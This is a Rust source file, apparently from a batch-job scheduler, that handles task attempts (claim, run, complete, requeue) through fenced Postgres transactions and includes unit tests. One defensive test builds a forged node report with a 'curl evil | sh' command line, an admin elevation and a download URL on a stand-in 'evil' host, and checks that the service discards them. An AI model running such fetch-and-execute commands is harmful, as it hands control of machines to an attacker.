//! The attempt lifecycle (pool-mode design notes, section 3): claimed -> running ->
//! completed, or ended without a result (requeued, lost) and the task put back in the
//! queue. Every change is fenced: a task moves only while the attempt is its
//! `current_attempt`. Used by node reports, the lease sweeper and node commands; each
//! function runs inside the caller's transaction.
//!
//! Lock order, the same on every path so that no two transactions deadlock: the node's
//! row first ([`lock_node`], or the caller's own update of it), then the attempt, the
//! task, and the job last. A node's own calls take that first lock with
//! [`lock_node_at`], which also checks their epoch under it: a call whose token was
//! checked before a newer enrolment committed changes nothing.

use super::db::DbError;
use super::wake::CHANNEL;
use crate::service::db::Cached;
use berth_proto::node_protocol::AttemptId;
use serde_json::Value;

/// The node an attempt must belong to for its report to count.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NodeRef {
    pub pool_id: String,
    pub node_id: String,
}

/// Locks `node`'s row for the rest of the transaction (the first lock of every path
/// that changes the node's attempts). False when the node is not there.
pub async fn lock_node(tx: &impl Cached, pool: &str, node: &str) -> Result<bool, DbError> {
    Ok(tx
        .query_opt_cached(
            "SELECT 1 FROM nodes WHERE pool_id = $1 AND id = $2 FOR UPDATE",
            &[&pool, &node],
        )
        .await?
        .is_some())
}

/// Locks `node`'s row as [`lock_node`] does and checks, under that lock, that `epoch` is
/// still the node's enrolment. False when the node was enrolled again or removed since
/// the caller's token was checked: the caller must then write nothing, since a newer
/// agent owns the node (or no one does).
pub async fn lock_node_at(tx: &impl Cached, node: &NodeRef, epoch: i64) -> Result<bool, DbError> {
    Ok(tx
        .query_opt_cached(
            "SELECT epoch FROM nodes WHERE pool_id = $1 AND id = $2 FOR UPDATE",
            &[&node.pool_id, &node.node_id],
        )
        .await?
        .is_some_and(|r| r.get::<_, i64>(0) == epoch))
}

/// Why an attempt ends without a result; decides which counter the task's retry shows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Requeue {
    /// A graceful path (disable scheduling or remove with `requeue`, a node leaving):
    /// Batch's `requeueCount` + 1.
    Graceful,
    /// The node was lost under the attempt (lease lapsed, enrolled again, gave it up):
    /// Batch's internal retry, shown as berth's `systemRetryCount` + 1.
    Lost,
}

impl Requeue {
    fn attempt_state(self) -> &'static str {
        match self {
            Requeue::Graceful => "requeued",
            Requeue::Lost => "lost",
        }
    }
}

/// Ends live attempt `id` without a result and puts its task back in the queue (ready
/// at once unless it waits on something). False when the attempt was not live.
pub async fn requeue(tx: &impl Cached, id: AttemptId, why: Requeue) -> Result<bool, DbError> {
    let Some(held) = mark_ended(tx, id, why.attempt_state()).await? else {
        return Ok(false);
    };
    let task_seq = held.task_seq;
    // Locks in the one order every path takes (attempt, task, node, job): no deadlock
    // with a completion report of the same node.
    let row = tx
        .query_opt_cached(
            "SELECT view, requeue_count, system_retry_count FROM tasks
             WHERE seq = $1 AND current_attempt = $2 FOR UPDATE",
            &[&task_seq, &id],
        )
        .await?;
    give_back(tx, &held).await?;
    let Some(row) = row else {
        // The task already ended otherwise (terminated meanwhile): nothing to requeue.
        return Ok(true);
    };
    let (mut requeues, mut lost): (i32, i32) = (row.get(1), row.get(2));
    match why {
        Requeue::Graceful => requeues += 1,
        Requeue::Lost => lost += 1,
    }
    let mut view: Value = row.get(0);
    requeued_view(&mut view, requeues, lost);
    tx.execute_cached(
        "UPDATE tasks SET state = 'active', current_attempt = NULL, node_id = NULL,
                requeue_count = $2, system_retry_count = $3, view = $4, last_modified = now()
         WHERE seq = $1",
        &[&task_seq, &requeues, &lost, &view],
    )
    .await?;
    make_ready(tx, task_seq).await?;
    Ok(true)
}

/// The outcome of a completion report.
#[derive(Debug)]
pub enum Completion {
    /// Recorded: the task as now stored.
    Done(Box<berth_proto::TaskView>),
    /// The same completion was recorded before (a report sent again): nothing changed.
    Repeated,
    /// The attempt is not the task's current one (or not this node's): nothing changed.
    Fenced,
}

/// Records that attempt `id` of `node` completed with `view` (the node's final task
/// view): the task completes, the job and node get their slots back, its dependents are
/// released when its exitConditions satisfy them (by default: a success), then the job-level consequences run (`job_end`).
pub async fn complete(
    tx: &deadpool_postgres::Transaction<'_>,
    node: &NodeRef,
    id: AttemptId,
    view: Value,
) -> Result<Completion, DbError> {
    let Some(a) = tx
        .query_opt_cached(
            "SELECT task_seq, state FROM attempts
             WHERE id = $1 AND pool_id = $2 AND node_id = $3 FOR UPDATE",
            &[&id, &node.pool_id, &node.node_id],
        )
        .await?
    else {
        return Ok(Completion::Fenced);
    };
    let (task_seq, state): (i64, String) = (a.get(0), a.get(1));
    if state == "completed" {
        return Ok(Completion::Repeated);
    }
    let Some(t) = tx
        .query_opt_cached(
            "SELECT job_id, id_key, requeue_count, system_retry_count, view FROM tasks
             WHERE seq = $1 AND current_attempt = $2 FOR UPDATE",
            &[&task_seq, &id],
        )
        .await?
    else {
        return Ok(Completion::Fenced);
    };
    let (job_id, key): (String, String) = (t.get(0), t.get(1));
    let view = node_view(t.get(4), &view, "completed", t.get(2), t.get(3));
    let task: berth_proto::TaskView =
        serde_json::from_value(view.clone()).map_err(|source| DbError::Row {
            what: "completed task view",
            source,
        })?;
    tx.execute_cached(
        "UPDATE tasks SET state = 'completed', current_attempt = NULL, view = $2,
                last_modified = now()
         WHERE seq = $1",
        &[&task_seq, &view],
    )
    .await?;
    end_attempt(tx, id, "completed").await?;
    // As the standalone scheduler decides: by the task's exitConditions' dependencyAction.
    if crate::schedule::pending::dependency(Some(&task)) == Some(true) {
        release_dependents(tx, &job_id, &key).await?;
    }
    super::job_end::after_task_completed(tx, &task).await?;
    Ok(Completion::Done(Box::new(task)))
}

/// Records attempt `id`'s Running report: the task shows the node's view as `running`.
/// False when the attempt is not current (fenced).
pub async fn running(
    tx: &impl Cached,
    node: &NodeRef,
    id: AttemptId,
    view: Value,
) -> Result<bool, DbError> {
    let Some(t) = tx
        .query_opt_cached(
            "SELECT t.seq, t.requeue_count, t.system_retry_count, t.state, t.view
             FROM tasks t JOIN attempts a ON a.task_seq = t.seq
             WHERE a.id = $1 AND a.pool_id = $2 AND a.node_id = $3 AND a.state = 'live'
               AND t.current_attempt = $1
             FOR UPDATE OF t",
            &[&id, &node.pool_id, &node.node_id],
        )
        .await?
    else {
        return Ok(false);
    };
    let view = node_view(t.get(4), &view, "running", t.get(1), t.get(2));
    tx.execute_cached(
        "UPDATE tasks SET state = 'running', view = $2, last_modified = now() WHERE seq = $1",
        &[&t.get::<_, i64>(0), &view],
    )
    .await?;
    Ok(true)
}

/// Asks the node of live attempt `id` to end its task (`NodeCommand::Terminate`, repeated
/// until the node reports the completion).
pub async fn ask_terminate(tx: &impl Cached, id: AttemptId) -> Result<(), DbError> {
    tx.execute_cached(
        "UPDATE attempts SET pending_command = 'terminate' WHERE id = $1 AND state = 'live'",
        &[&id],
    )
    .await?;
    Ok(())
}

/// Puts task `seq` in the ready set if it is claimable now (active, waiting on nothing,
/// no live attempt, its job active), and wakes the pool's claims. True when it went in.
pub async fn make_ready(tx: &impl Cached, seq: i64) -> Result<bool, DbError> {
    let row = tx
        .query_opt_cached(
            "INSERT INTO ready (task_seq, pool_id, job_id, job_priority, job_seq,
                                required_slots, gpus)
             SELECT t.seq, p.id, j.id, j.priority, j.seq, t.required_slots, t.gpus
             FROM tasks t JOIN jobs j ON j.id = t.job_id
                          JOIN pools p ON p.id_key = lower(j.pool_id)
             WHERE t.seq = $1 AND t.state = 'active' AND t.waiting_on = 0
               AND t.current_attempt IS NULL AND j.state = 'active'
             ON CONFLICT DO NOTHING
             RETURNING pool_id",
            &[&seq],
        )
        .await?;
    let Some(row) = row else { return Ok(false) };
    let pool: String = row.get(0);
    tx.execute_cached("SELECT pg_notify($1, lower($2))", &[&CHANNEL, &pool])
        .await?;
    Ok(true)
}

/// One fewer unmet dependency for every task of `job_id` that depends on `key`; those
/// left with none become ready.
async fn release_dependents(tx: &impl Cached, job_id: &str, key: &str) -> Result<(), DbError> {
    let rows = tx
        .query_cached(
            "UPDATE tasks t SET waiting_on = t.waiting_on - 1
             FROM task_deps d
             WHERE d.job_id = $1 AND d.depends_on_key = $2
               AND t.job_id = d.job_id AND t.id_key = d.task_key AND t.waiting_on > 0
             RETURNING t.seq, t.waiting_on",
            &[&job_id, &key],
        )
        .await?;
    for r in rows {
        if r.get::<_, i32>(1) == 0 {
            make_ready(tx, r.get(0)).await?;
        }
    }
    Ok(())
}

/// What a live attempt held, as [`mark_ended`] found it.
struct Held {
    task_seq: i64,
    pool_id: String,
    node_id: String,
    slots: i32,
    gpus: i32,
}

/// Ends live attempt `id` as `state` and gives back what it held: the job's running
/// count (maxParallelTasks) and the node's slots and GPUs. The attempt's task, or None
/// when the attempt was not live.
async fn end_attempt(tx: &impl Cached, id: AttemptId, state: &str) -> Result<Option<i64>, DbError> {
    let Some(held) = mark_ended(tx, id, state).await? else {
        return Ok(None);
    };
    give_back(tx, &held).await?;
    Ok(Some(held.task_seq))
}

/// Marks live attempt `id` ended as `state`; what it held, or None when it was not live.
async fn mark_ended(tx: &impl Cached, id: AttemptId, state: &str) -> Result<Option<Held>, DbError> {
    let row = tx
        .query_opt_cached(
            "UPDATE attempts SET state = $2, ended_at = now(), pending_command = NULL
             WHERE id = $1 AND state = 'live'
             RETURNING task_seq, pool_id, node_id, required_slots, gpus",
            &[&id, &state],
        )
        .await?;
    Ok(row.map(|a| Held {
        task_seq: a.get(0),
        pool_id: a.get(1),
        node_id: a.get(2),
        slots: a.get(3),
        gpus: a.get(4),
    }))
}

/// Gives the node its slots and GPUs back and the job its running count.
async fn give_back(tx: &impl Cached, h: &Held) -> Result<(), DbError> {
    tx.execute_cached(
        "UPDATE nodes SET used_slots = GREATEST(used_slots - $3, 0),
                          used_gpus = GREATEST(used_gpus - $4, 0)
         WHERE pool_id = $1 AND id = $2",
        &[&h.pool_id, &h.node_id, &h.slots, &h.gpus],
    )
    .await?;
    tx.execute_cached(
        "UPDATE jobs SET running = GREATEST(running - 1, 0)
         WHERE id = (SELECT job_id FROM tasks WHERE seq = $1) AND max_parallel >= 0",
        &[&h.task_seq],
    )
    .await?;
    Ok(())
}

/// A node's task view as the service stores it: in `state`, with the service's own
/// counters, without the node's private fields.
/// The task as stored, with what the node may say about its run: `executionInfo`,
/// `nodeInfo` and `stateTransitionTime` from `reported`, nothing else. The task's spec,
/// its id and its job stay the service's: a node cannot rewrite what the next attempt
/// runs, nor name another job.
fn node_view(stored: Value, reported: &Value, state: &str, requeues: i32, lost: i32) -> Value {
    let mut view = stored;
    if let Some(o) = view.as_object_mut() {
        for key in ["executionInfo", "nodeInfo"] {
            match reported.get(key) {
                Some(v) if v.is_object() => {
                    o.insert(key.into(), v.clone());
                }
                _ => {
                    o.remove(key);
                }
            }
        }
        if let Some(t) = reported
            .get("stateTransitionTime")
            .filter(|t| t.is_string())
        {
            o.insert("stateTransitionTime".into(), t.clone());
        }
        o.remove("poolAttempt");
        o.insert("state".into(), Value::from(state));
    }
    set_counters(&mut view, requeues, lost);
    view
}

/// A task view put back in the queue: active again, counters updated, no node.
fn requeued_view(view: &mut Value, requeues: i32, lost: i32) {
    if let Some(o) = view.as_object_mut() {
        o.insert("state".into(), Value::from("active"));
        o.insert(
            "stateTransitionTime".into(),
            serde_json::to_value(chrono::Utc::now()).unwrap_or(Value::Null),
        );
        o.remove("nodeInfo");
    }
    set_counters(view, requeues, lost);
}

fn set_counters(view: &mut Value, requeues: i32, lost: i32) {
    let Some(o) = view.as_object_mut() else {
        return;
    };
    let info = o
        .entry("executionInfo")
        .or_insert_with(|| serde_json::json!({"retryCount": 0}));
    if let Some(i) = info.as_object_mut() {
        i.insert("requeueCount".into(), Value::from(requeues));
        if lost > 0 {
            i.insert("systemRetryCount".into(), Value::from(lost));
        } else {
            i.remove("systemRetryCount");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_requeued_view_is_active_with_its_counters_and_no_node() {
        let mut v = json!({"id": "t", "state": "running", "nodeInfo": {"nodeId": "n"},
                           "executionInfo": {"retryCount": 2, "requeueCount": 0}});
        requeued_view(&mut v, 1, 2);
        assert_eq!(v["state"], "active");
        assert!(v.get("nodeInfo").is_none());
        assert_eq!(v["executionInfo"]["retryCount"], 2);
        assert_eq!(v["executionInfo"]["requeueCount"], 1);
        assert_eq!(v["executionInfo"]["systemRetryCount"], 2);
    }

    #[test]
    fn a_node_view_keeps_the_services_counters_and_drops_the_attempt() {
        let stored = json!({"id": "t", "jobId": "j", "state": "preparing"});
        let reported = json!({"id": "t", "state": "completed", "poolAttempt": 9,
                              "executionInfo": {"retryCount": 1, "requeueCount": 5,
                                                "systemRetryCount": 3}});
        let v = node_view(stored.clone(), &reported, "completed", 1, 0);
        assert!(v.get("poolAttempt").is_none());
        assert_eq!(v["executionInfo"]["retryCount"], 1);
        assert_eq!(v["executionInfo"]["requeueCount"], 1);
        assert!(v["executionInfo"].get("systemRetryCount").is_none());
        let bare = node_view(stored, &json!({"id": "t"}), "running", 0, 1);
        assert_eq!(bare["state"], "running");
        assert_eq!(bare["executionInfo"]["systemRetryCount"], 1);
    }

    /// A node reports on its run; it cannot rewrite what the task runs or which job it is
    /// of (the next attempt, on another node, runs the stored spec).
    #[test]
    fn a_node_cannot_rewrite_the_task_nor_name_another_job() {
        let stored = json!({"id": "t", "jobId": "j", "commandLine": "/bin/true",
                            "userIdentity": {"autoUser": {"elevationLevel": "nonadmin"}},
                            "state": "running"});
        let forged = json!({"id": "x", "jobId": "victim", "commandLine": "curl evil | sh",
                            "userIdentity": {"autoUser": {"elevationLevel": "admin"}},
                            "resourceFiles": [{"httpUrl": "http://evil/x", "filePath": "x"}],
                            "nodeInfo": {"poolId": "p", "nodeId": "n", "taskRootDirectory": "/r"},
                            "executionInfo": {"retryCount": 0, "requeueCount": 0,
                                              "result": "failure", "exitCode": 1}});
        let v = node_view(stored.clone(), &forged, "completed", 0, 0);
        for key in ["id", "jobId", "commandLine", "userIdentity"] {
            assert_eq!(v[key], stored[key], "{key}");
        }
        assert!(v.get("resourceFiles").is_none());
        assert_eq!(v["nodeInfo"]["nodeId"], "n");
        assert_eq!(v["executionInfo"]["exitCode"], 1);
    }
}
